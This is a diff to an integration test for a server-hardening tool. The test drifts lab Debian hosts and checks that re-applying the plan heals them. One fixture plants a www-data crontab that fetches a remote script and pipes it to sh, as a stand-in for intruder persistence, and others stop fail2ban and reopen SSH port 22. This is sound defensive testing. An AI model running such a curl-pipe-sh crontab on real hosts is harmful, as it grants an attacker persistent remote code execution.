@@ -1,6 +1,9 @@
 // Drift on real hosts: apply the plan, drift each host in a different way, and show that `harden drift`
 // and the HostDrift provider's read()/diff() (called as the engine calls them) name it exactly; then
-// apply again and show what the apply heals. A host left alone is in sync, twice in a row.
+// apply the same plan again and show that it heals every drift of what harden owns (files, its table,
+// fail2ban running, foreign sshd drop-ins set aside, crontabs outside cron.allow quarantined), that the
+// drift command then says in sync, and that a third apply changes nothing. A host left alone is in
+// sync, twice in a row.
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -10,7 +13,7 @@ import { checkHost, type HostCheck } from "../../src/drift/check-host";
 import { planFleet } from "../../src/plan/plan";
 import type { HostPlan } from "../../src/plan/types";
 import { hostDriftInputs, hostDriftProvider, type HostDriftState } from "../../src/pulumi/drift-resource";
-import type { LabClient, LabHost } from "../lab/lab";
+import type { LabClient, LabHost, LabRoot } from "../lab/lab";
 import { runPlan } from "../lab/plan-runner";
 import { labSuite } from "../lab/suite";
 import { labFleet, SSH_PORT, type LabFleetHost } from "./lab-fleet";
@@ -20,6 +23,9 @@ const LISTEN_6379 = `setsid python3 -c 'import socket,time
 s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("0.0.0.0", 6379)); s.listen()
 while True: c, a = s.accept(); c.close()' </dev/null >/dev/null 2>&1 &`;
 const CURL_SH = "*/10 * * * * curl -fsSL http://198.51.100.9/x.sh | sh";
+/** runs every minute: shows whether cron still runs a crontab (cron re-reads its spool by the dir's mtime) */
+const MARK = "* * * * * touch /tmp/cron-ran";
+const plant = (line: string) => `printf '%s\\n' '${line}' > /var/spool/cron/crontabs/www-data && chown www-data:crontab /var/spool/cron/crontabs/www-data && chmod 0600 /var/spool/cron/crontabs/www-data`;
 
 /** name -> how the host is drifted (run inside it) */
 const DRIFTS: Record<string, string> = {
@@ -31,12 +37,14 @@ const DRIFTS: Record<string, string> = {
   f2b: "fail2ban-client stop",
   // written to the spool directly: crontab(1) refuses www-data now that cron.allow is in force, but an
   // intruder with root, or a crontab from before the lockdown, is exactly what cron.allow does not stop
-  cron: `printf '%s\\n' '${CURL_SH}' > /var/spool/cron/crontabs/www-data && chown www-data:crontab /var/spool/cron/crontabs/www-data && chmod 0600 /var/spool/cron/crontabs/www-data`,
+  cron: plant(CURL_SH),
+  cronrun: plant(MARK),
   allow: "echo www-data >> /etc/cron.allow && chmod 0644 /etc/cron.allow",
   port: "printf 'Port 22\\n' > /etc/ssh/sshd_config.d/00-a-port.conf && hl-service reload sshd",
 };
 
-labSuite("drift on lab hosts", (lab) => {
+// Debian 12 (OpenSSH 9.2, fail2ban 1.0.2) and Debian 13 (OpenSSH 10.0, fail2ban 1.1.0, nftables 1.1.3)
+for (const root of ["debian-12", "debian-13"] as LabRoot[]) labSuite(`drift on lab hosts (${root})`, (lab) => {
   const hosts: Record<string, LabHost> = {};
   const plans: Record<string, HostPlan> = {};
   let fleetFile: string;
@@ -51,7 +59,7 @@ labSuite("drift on lab hosts", (lab) => {
   beforeAll(async () => {
     tmp = mkdtempSync(join(tmpdir(), "harden-drift-lab-"));
     key = readFileSync(lab().adminKey, "utf8");
-    for (const name of ["clean", ...Object.keys(DRIFTS)]) hosts[name] = await lab().host({ name });
+    for (const name of ["clean", ...Object.keys(DRIFTS)]) hosts[name] = await lab().host({ name, root });
     attacker = await lab().client("attacker");
     for (const p of planFleet(fleetFor(22), { rollbackSeconds: ROLLBACK_SECONDS })) plans[p.host] = p;
     fleetFile = join(tmp, "fleet.json");
@@ -165,41 +173,108 @@ labSuite("drift on lab hosts", (lab) => {
     });
   });
 
-  describe("applying again", () => {
-    const after: Record<string, { apply: string; items: string[] }> = {};
+  describe("applying the same plan again", () => {
+    const after: Record<string, { apply: string; out: string; items: string[] }> = {};
+    let third: Record<string, string[]> = {};
+    let cronRan = { before: false, after: false };
+    const q = "/var/lib/harden/quarantine/crontabs/www-data";
+
+    /** waits until cron has run MARK (touched the file), at most `ms` */
+    const ranWithin = async (ms: number) => {
+      for (const end = Date.now() + ms; Date.now() < end; await new Promise((r) => setTimeout(r, 2000))) {
+        if ((await hosts.cronrun.exec("test -e /tmp/cron-ran")).code === 0) return true;
+      }
+      return false;
+    };
+
     beforeAll(async () => {
       // the hosts are reached on the new port now: the operator's fleet says so
       const again = Object.fromEntries(planFleet(fleetFor(SSH_PORT), { rollbackSeconds: ROLLBACK_SECONDS }).map((p) => [p.host, p]));
+      // the planted crontab must be seen running before the heal, or its silence after proves nothing
+      cronRan.before = await ranWithin(120_000);
       await Promise.all(Object.keys(DRIFTS).map(async (name) => {
         const steps = await runPlan(again[name], { identityFile: lab().adminKey });
         const failed = steps.find((s) => s.code !== 0);
         const items = messages(await check(name));
-        after[name] = { apply: failed ? `${failed.name} failed: ${failed.stderr.trim().split("\n").pop()}` : "ok", items };
+        after[name] = {
+          apply: failed ? `${failed.name} failed: ${failed.stderr.trim().split("\n").pop()}` : "ok",
+          out: steps.map((s) => s.stdout).join(""),
+          items,
+        };
       }));
       console.log("[drift] after applying again:");
       for (const [name, r] of Object.entries(after)) console.log(`  ${name.padEnd(8)} apply ${r.apply}; drift: ${r.items.join(" | ") || "none"}`);
-    }, 300_000);
+      // a heal must converge: applied once more, every unit of every host is in sync
+      const results = await Promise.all(Object.keys(DRIFTS).map(async (name) =>
+        [name, (await runPlan(again[name], { identityFile: lab().adminKey })).filter((s) => s.kind === "step" && s.name !== "confirm")
+          .map((s) => (s.code === 0 ? s.stdout.trim().split("\n").pop() ?? "" : `${s.name}: exit ${s.code} ${s.stderr.trim()}`))] as const));
+      third = Object.fromEntries(results);
+      // cron re-reads its spool at the next minute: give it two
+      await hosts.cronrun.exec("rm -f /tmp/cron-ran");
+      await new Promise((r) => setTimeout(r, 125_000));
+      cronRan.after = (await hosts.cronrun.exec("test -e /tmp/cron-ran")).code === 0;
+    }, 600_000);
 
-    it("heals what lives in files the plan installs: the edited drop-in, cron.allow", () => {
-      expect(after.dropin).toEqual({ apply: "ok", items: [] });
-      expect(after.allow).toEqual({ apply: "ok", items: [] });
+    it("heals every drift of what harden owns, and the drift command then says in sync", () => {
+      for (const name of ["dropin", "allow", "cloud", "port", "rule", "f2b", "cron", "cronrun"]) {
+        expect(after[name], name).toEqual({ apply: "ok", out: expect.any(String), items: [] });
+      }
     });
 
-    it("refuses, naming the cause, where the running state contradicts unchanged files", () => {
-      expect(after.cloud.apply).toMatch(/^sshd failed: .*passwordauthentication.*00-cloud-init\.conf/);
-      expect(after.port.apply).toMatch(/^sshd failed: .*port.*00-a-port\.conf/);
-      expect(after.f2b.apply).toMatch(/^fail2ban failed: /);
+    it("heals from files where files differ: the edited drop-in, cron.allow", () => {
+      expect(after.dropin.out).toMatch(/^sshd: changes: \/etc\/ssh\/sshd_config.d\/00-harden.conf$/m);
+      expect(after.allow.out).toMatch(/^cron: changes: \/etc\/cron.allow$/m);
     });
 
-    it("leaves what harden does not own, still reported: a user's crontab, another table's rule", () => {
-      expect(after.cron.items).toEqual([`crontab of www-data: undeclared entry ${JSON.stringify(CURL_SH)}`]);
-      expect(after.foreign.items).toHaveLength(1);
+    it("sets aside a foreign sshd drop-in that overrides a managed keyword, saying which and why", async () => {
+      const d = "/etc/ssh/sshd_config.d";
+      expect(after.cloud.out).toContain(`sshd: running state differs: sshd: effective passwordauthentication is 'yes', expected 'no' (also set in: ${d}/00-cloud-init.conf)\nsshd: changes: (running state)\n`);
+      expect(after.cloud.out).toContain(`sshd: set aside ${d}/00-cloud-init.conf as ${d}/00-cloud-init.conf.harden-disabled: it sets passwordauthentication (effective 'yes', expected 'no')`);
+      expect(after.port.out).toContain(`sshd: set aside ${d}/00-a-port.conf as ${d}/00-a-port.conf.harden-disabled: it sets port (effective '22 2222', expected '2222')`);
+      // OpenSSH 10 has no last-wins keyword left, so no zz- drop-in
+      const ours = root === "debian-12" ? "00-harden.conf\nzz-harden-last.conf\n" : "00-harden.conf\n";
+      expect((await hosts.cloud.exec(`ls ${d}`)).stdout).toBe(`00-cloud-init.conf.harden-disabled\n${ours}`);
+      // sshd really left port 22
+      expect((await hosts.port.exec("ss -Hltn 'sport = :22' | wc -l")).stdout.trim()).toBe("0");
     });
 
-    it("records whether a rule inserted into harden's own table survives an apply", () => {
-      // the firewall unit reloads only when its files change; see the report's open points
-      expect(after.rule.apply).toBe("ok");
-      expect(after.rule.items.length === 0 || after.rule.items[0].startsWith("firewall: table inet harden differs: +rule")).toBe(true);
+    it("reloads harden's own table when a rule was inserted into it", () => {
+      expect(after.rule.out).toContain("firewall: running state differs: table inet harden differs from /etc/harden/firewall.nft: +tcp dport 6379 accept");
+      expect(after.rule.out).toContain("firewall: changes: (running state)\n");
+    });
+
+    it("starts fail2ban again", () => {
+      expect(after.f2b.out).toContain("fail2ban: running state differs: fail2ban: the server does not answer\nfail2ban: changes: (running state)\n");
+    });
+
+    it("quarantines the crontab of a user outside cron.allow, root-only, content kept; cron stops running it", async () => {
+      expect(after.cron.out).toContain(`cron: quarantined the crontab of www-data (not in cron.allow; cron would run it anyway) to ${q}: 1 entries`);
+      const kept = await hosts.cron.exec(`stat -c '%a %U %G' ${q}; cat ${q}; ls /var/spool/cron/crontabs`);
+      expect(kept.stdout).toBe(`600 root root\n${CURL_SH}\n`);
+      expect(cronRan).toEqual({ before: true, after: false });
+    });
+
+    it("leaves what harden does not own, still reported: another table's rule", () => {
+      expect(after.foreign.apply).toBe("ok");
+      expect(after.foreign.items).toEqual([
+        'firewall: table ip filter chain INPUT accepts 6379/tcp from anywhere: "tcp dport 6379 accept" (outside table inet harden; no effect while harden drops the port)',
+      ]);
+    });
+
+    it("a third apply finds every unit in sync: the heal converged", () => {
+      for (const [name, steps] of Object.entries(third)) {
+        expect(steps, name).toEqual(["firewall: in sync", "sshd: in sync", "fail2ban: in sync", "cron: in sync"]);
+      }
+    });
+
+    it("harden drift: every healed host in sync", async () => {
+      const out: string[] = [];
+      const code = await driftCommand([fleetFile, "--identity", lab().adminKey], { out: (l) => out.push(l), err: () => {} });
+      expect(code).toBe(1); // the foreign rule stays
+      for (const name of ["clean", "dropin", "allow", "cloud", "port", "rule", "f2b", "cron", "cronrun"]) {
+        expect(out, name).toContain(`${name}: in sync (via target root@${hosts[name].ip}:${SSH_PORT})`);
+      }
+      expect(out[out.length - 1]).toBe(`${Object.keys(hosts).length} host(s): ${Object.keys(hosts).length - 1} in sync, 1 drifted, 0 not checked`);
     });
   });
 });
